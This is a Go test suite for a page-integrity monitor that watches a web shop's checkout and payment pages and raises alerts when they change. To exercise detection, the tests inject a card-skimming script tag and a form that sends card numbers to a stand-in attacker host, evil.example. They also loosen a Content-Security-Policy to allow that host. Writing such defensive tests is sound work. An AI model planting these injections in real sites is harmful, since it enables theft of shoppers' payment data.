package pagewatch_test

import (
	"context"
	"crypto/tls"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"strongroom/base/db"
	"strongroom/base/db/dbtest"
	"strongroom/base/fault"
	"strongroom/base/job"
	"strongroom/guard/access"
	"strongroom/guard/access/accesstest"
	"strongroom/guard/audit"
	"strongroom/guard/pagewatch"
	"strongroom/guard/vault/vaulttest"
)

// shop is a small shop that can be altered.
type shop struct {
	*httptest.Server
	inject  string            // stands at the end of every page
	headers map[string]string // over its own
	down    bool
	empty   bool
	placed  int // how often the button was pressed
	taken   int // how often the goods were taken out again
	agents  map[string]bool
}

func openShop(t *testing.T) *shop {
	s := &shop{headers: map[string]string{}, agents: map[string]bool{}}
	form := func(action string, fields ...string) string {
		return `<form method="post" action="` + action + `"><input type="hidden" name="t" value="1">` + strings.Join(fields, "") + `<button>Go</button></form>`
	}
	pages := map[string]string{"/en/": `<a href="/en/c/x">x</a><a href="/en/p/sold-out">a</a><a href="/en/p/bowl">b</a>`, "/en/p/bowl": form("/en/cart/add"),
		"/en/p/sold-out": "gone", "/en/cart": form("/en/cart/remove"), "/en/checkout": form("/en/checkout", `<input type="email" name="email">`),
		"/en/checkout/pay": form("/en/checkout/pay"), "/en/order": form("/en/order/pay")}
	s.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.agents[r.UserAgent()] = true
		body, ok := pages[r.URL.Path]
		switch {
		case s.down:
			http.Error(w, "down", http.StatusBadGateway)
			return
		case r.Method == http.MethodPost && r.URL.Path == "/en/checkout/pay":
			s.placed++
		case r.Method == http.MethodPost && r.URL.Path == "/en/cart/remove":
			s.taken++
			return
		case r.Method == http.MethodPost:
			http.Redirect(w, r, map[string]string{"/en/cart/add": "/en/cart", "/en/checkout": "/en/checkout/pay"}[r.URL.Path], http.StatusSeeOther)
			return
		case s.empty && r.URL.Path == "/en/p/bowl":
			body = "gone"
		case r.URL.Path == "/en/order" && !strings.Contains(r.Header.Get("Cookie"), "order=secret"), !ok:
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy", "script-src 'none'")
		for k, v := range s.headers {
			w.Header().Set(k, v)
		}
		fmt.Fprint(w, "<!DOCTYPE html><title>x</title>", body, s.inject)
	}))
	t.Cleanup(s.Close)
	return s
}

// source is its inventory.
func source(_ context.Context, lang string) (pagewatch.Inventory, error) {
	at := func(p string) string { return "/" + lang + p }
	page := func(name string, action string, more ...pagewatch.Rule) pagewatch.Page {
		r := append(more, pagewatch.Rule{Kind: pagewatch.Status, Name: "200", Must: true}, pagewatch.Rule{Kind: pagewatch.Header, Name: "Content-Type", Value: "text/html; charset=utf-8"},
			pagewatch.Rule{Kind: pagewatch.Header, Name: "Content-Security-Policy", Value: "script-src 'none'", Must: true},
			pagewatch.Rule{Kind: pagewatch.Header, Name: "Date", Value: "*"}, pagewatch.Rule{Kind: pagewatch.Header, Name: "Content-Length", Value: "*"})
		if action != "" {
			r = append(r, pagewatch.Rule{Kind: pagewatch.Form, Name: "POST " + at(action)}, pagewatch.Rule{Kind: pagewatch.Field, Name: "POST " + at(action) + " *", Value: "*"})
		}
		return pagewatch.Page{Name: name, Rules: r}
	}
	return pagewatch.Inventory{
		Pages: []pagewatch.Page{page("product", "/cart/add"), page("cart", "/cart/remove"), page("details", "/checkout"), page("check", "/checkout/pay"), page("order", "/order/pay")},
		Route: pagewatch.Route{Home: at("/"), Product: at("/p/"), Add: at("/cart/add"), Remove: at("/cart/remove"), Cart: at("/cart"), Details: at("/checkout"), Check: at("/checkout/pay"),
			Others: []pagewatch.Stop{{Page: "order", Path: at("/order"), Cookie: "order", Value: "secret"}},
			Fill:   func(v url.Values) url.Values { v.Set("email", "shop@shop.example"); return v }}}, nil
}

// watched is a watch over the shop.
type watched struct {
	*pagewatch.Service
	t        *testing.T
	p        dbtest.Pair
	accepted map[string]time.Time
	jobs     *job.Queue
}

func watch(t *testing.T, p dbtest.Pair, s *shop) *watched {
	t.Helper()
	w := &watched{t: t, p: p, accepted: map[string]time.Time{}, jobs: job.New(p.Data, slog.New(slog.DiscardHandler), 0)}
	way := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: s.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs}}
	t.Cleanup(way.CloseIdleConnections)
	var err error
	w.Service, err = pagewatch.New(pagewatch.Deps{DB: p.Data, Audit: audit.New(audit.Deps{DB: p.Data, Vault: vaulttest.New(t, p)}), Jobs: w.jobs, Public: s.URL, Way: way,
		Source: source, Languages: []string{"en"}, Accepted: func(context.Context) (map[string]time.Time, error) { return w.accepted, nil }, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func (w *watched) look(want pagewatch.Outcome, letters int64) pagewatch.Result {
	w.t.Helper()
	r, err := w.Look(w.t.Context())
	if err != nil {
		w.t.Fatal(err)
	}
	if r.Outcome != want {
		w.t.Errorf("the look ended %q (%s), want %q: %+v", r.Outcome, r.Trouble, want, r.Differences)
	}
	if n := w.number(`SELECT COUNT(*) FROM job_queue WHERE kind = 'letter.pages'`); n != letters {
		w.t.Errorf("%d letters, want %d", n, letters)
	}
	return r
}

func (w *watched) number(query string) (n int64) {
	w.t.Helper()
	if err := w.p.Data.Read(w.t.Context(), func(tx *db.Tx) error { return tx.QueryRow(query).Scan(&n) }); err != nil {
		w.t.Fatal(err)
	}
	return n
}

// Rows 1 and 2 of the attacks: what is added to a page around payment is an alarm with an entry and one letter, again after
// a day, none while somebody lives with it, and an entry when it is gone. Nothing is ever ordered.
func TestAlarm(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := openShop(t)
		w := watch(t, p, s)
		if r := w.look(pagewatch.Same, 0); r.Pages < 6 || r.Things < 40 || r.Short {
			t.Errorf("%+v", r.Looked)
		}
		s.inject = `<script src="https://evil.example/skim.js"></script>`
		p.Clock.Advance(pagewatch.Often)
		r := w.look(pagewatch.Different, 1)
		if len(r.Differences) < 4 || r.Differences[0].Name != "https://evil.example/skim.js" || r.Differences[0].What != pagewatch.Foreign {
			t.Errorf("%+v", r.Differences)
		}
		if n := w.number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'pagewatch.differs'`); n != int64(len(r.Differences)) {
			t.Errorf("%d entries for %d differences", n, len(r.Differences))
		}
		p.Clock.Advance(pagewatch.Often)
		w.look(pagewatch.Different, 1) // told already
		p.Clock.Advance(pagewatch.Again)
		w.look(pagewatch.Different, 2) // it still stands
		for _, d := range r.Differences {
			w.accepted[pagewatch.Subject(d.Mark)] = p.Clock.Now().Add(48 * time.Hour)
		}
		p.Clock.Advance(pagewatch.Again)
		w.look(pagewatch.Different, 2) // somebody lives with it
		p.Clock.Advance(pagewatch.Again)
		w.look(pagewatch.Different, 3) // and no longer
		s.inject = ""
		w.look(pagewatch.Same, 3)
		st, err := w.Standing(t.Context())
		if err != nil || len(st.Open) != 0 || w.number(`SELECT COUNT(*) FROM audit_entry WHERE action = 'pagewatch.restored'`) == 0 {
			t.Errorf("%v %+v", err, st)
		}
		s.headers["Content-Security-Policy"] = "script-src 'none' https://evil.example"
		w.look(pagewatch.Different, 4)
		if s.placed != 0 || s.taken == 0 || len(s.agents) != 2 {
			t.Errorf("ordered %d times, emptied %d times, as %v", s.placed, s.taken, s.agents)
		}
	})
}

// A shop that cannot be seen is no good news: after three looks the owner is told, once. What stood before still stands.
func TestNobodyLooks(t *testing.T) {
	s := openShop(t)
	w := watch(t, dbtest.Open(t, db.SQLite), s)
	s.inject = "<iframe></iframe>"
	w.look(pagewatch.Different, 1)
	s.down = true
	for i := range pagewatch.Blind + 2 {
		w.p.Clock.Advance(pagewatch.Often)
		letters := int64(1)
		if i >= pagewatch.Blind-1 {
			letters = 2
		}
		if r := w.look(pagewatch.Unseen, letters); r.Trouble == "" {
			t.Error("nobody knows why")
		}
	}
	st, err := w.Standing(t.Context())
	if err != nil || st.Blind != pagewatch.Blind+2 || len(st.Open) == 0 || st.Seen.ID == st.Last.ID {
		t.Errorf("%v %+v", err, st)
	}
	s.down, s.inject, s.empty = false, "", true
	if r := w.look(pagewatch.Same, 2); !r.Short {
		t.Error("nothing can be bought, and it was not said")
	}
}

// V8.2.1: every method wants its right, and a refusal stands in the log. What is typed is looked at.
func TestRightsAndRecords_V8_2_1(t *testing.T) {
	s := openShop(t)
	w := watch(t, dbtest.Open(t, db.SQLite), s)
	good := pagewatch.Record{Sort: pagewatch.Scan, Subject: "Scanner Ltd", Day: w.p.Clock.Now().AddDate(0, 0, -3), Passed: true, Place: "https://scanner.example/report"}
	for name, who := range accesstest.Actors() {
		for act, try := range map[string]struct {
			may access.Permission
			do  func() error
		}{
			"show": {access.SafetyView, func() error { _, err := w.Show(t.Context(), who, "en"); return err }},
			"look": {access.SafetyManage, func() error { return w.LookNow(t.Context(), who) }},
			"note": {access.SafetyManage, func() error { return w.Note(t.Context(), who, good) }},
		} {
			if err := try.do(); who.May(try.may) != (err == nil) || err != nil && !fault.Is(err, fault.Forbidden) {
				t.Errorf("%s, %s: %v", act, name, err)
			}
		}
	}
	for name, change := range map[string]func(*pagewatch.Record){
		"sort": func(r *pagewatch.Record) { r.Sort = "rumour" }, "subject": func(r *pagewatch.Record) { r.Subject = " " },
		"day": func(r *pagewatch.Record) { r.Day = w.p.Clock.Now().AddDate(0, 0, 3) }, "place": func(r *pagewatch.Record) { r.Place = strings.Repeat("x", 301) }} {
		r := good
		change(&r)
		if err := w.Note(t.Context(), access.Console(), r); !fault.Is(err, fault.Invalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
	list, err := w.Records(t.Context())
	if err != nil || len(list) == 0 || !list[0].Passed || list[0].Old(w.p.Clock.Now()) || !list[0].Old(w.p.Clock.Now().AddDate(0, 4, 0)) {
		t.Errorf("%v %+v", err, list)
	}
}

// Row 1: whenever somebody alters a page, the regular look tells within the hour.
func TestTheAlarmComesWithinTheHour(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
		s := openShop(t)
		w := watch(t, p, s)
		if err := w.Register(true); err != nil {
			t.Fatal(err)
		}
		due := func() {
			t.Helper()
			if _, err := w.jobs.RunDue(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
		due()
		if n := w.number(`SELECT COUNT(*) FROM pagewatch_look WHERE outcome = 'same'`); n != 1 {
			t.Fatalf("%d looks at the start", n)
		}
		p.Clock.Advance(time.Minute)
		s.inject = `<form action="https://evil.example/card"><input name="card"></form>` // the worst moment: it has just been looked
		for minute := 1; w.number(`SELECT COUNT(*) FROM job_queue WHERE kind = 'letter.pages'`) == 0; minute++ {
			if minute > 60 {
				t.Fatal("an hour has gone, and nobody was told")
			}
			p.Clock.Advance(time.Minute)
			due()
		}
	})
}
